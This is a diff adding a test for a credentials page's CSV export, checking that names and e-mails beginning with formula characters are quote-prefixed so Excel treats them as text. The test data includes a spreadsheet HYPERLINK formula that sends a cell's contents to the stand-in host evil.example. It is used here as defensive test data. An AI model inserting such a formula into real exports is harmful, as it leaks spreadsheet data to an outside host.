@@ -84,6 +84,26 @@ describe('CredentialsPage', () => {
     expect(sessionStorage.length + localStorage.length).toBe(0)
   })
 
+  it('saves a name or e-mail that would start a formula behind a quote mark, so Excel shows it as text (ADR 032)', async () => {
+    const hostile = buildIssuedCredential({ employeeNumber: '-1+2', name: '=HYPERLINK("https://evil.example/?"&F2,"詳細")', email: '@x.example' })
+    mockFetch({
+      [`POST ${base}/credentials`]: () => json(200, buildIssue([hostile])),
+      [`POST ${base}/credentials/exports`]: () => new Response(null, { status: 204 }),
+      [`GET ${base}/email-batches`]: () => json(200, noBatches),
+    })
+    const downloads = captureDownloads()
+    renderCredentials()
+    await userEvent.click(screen.getByRole('button', { name: '未発行の全員に発行する' }))
+    await screen.findByRole('table', { name: /1 人分を発行しました/ })
+    const row = `"'-1+2","'=HYPERLINK(""https://evil.example/?""&F2,""詳細"")",ソウゴウ タロウ,"'@x.example",${hostile.url},${hostile.password}\r\n`
+
+    await userEvent.click(screen.getByRole('button', { name: '差し込み用 CSV (UTF-8, BOM)' }))
+    expect(new TextDecoder('utf-8').decode(await bytesOf(downloads[0])).split('\r\n')[1]).toBe(row.slice(0, -2))
+    await userEvent.click(screen.getByRole('button', { name: '差し込み用 CSV (Shift_JIS)' }))
+    const sjis = Encoding.codeToString(Encoding.convert(await bytesOf(downloads[1]), { to: 'UNICODE', from: 'SJIS' }))
+    expect(sjis.split('\r\n')[1]).toBe(row.slice(0, -2))
+  })
+
   it('re-issues for the employees in ?employees= after a confirmation, then opens the postal kit', async () => {
     const fetchMock = mockFetch({
       [`POST ${base}/credentials`]: () => json(200, issue),
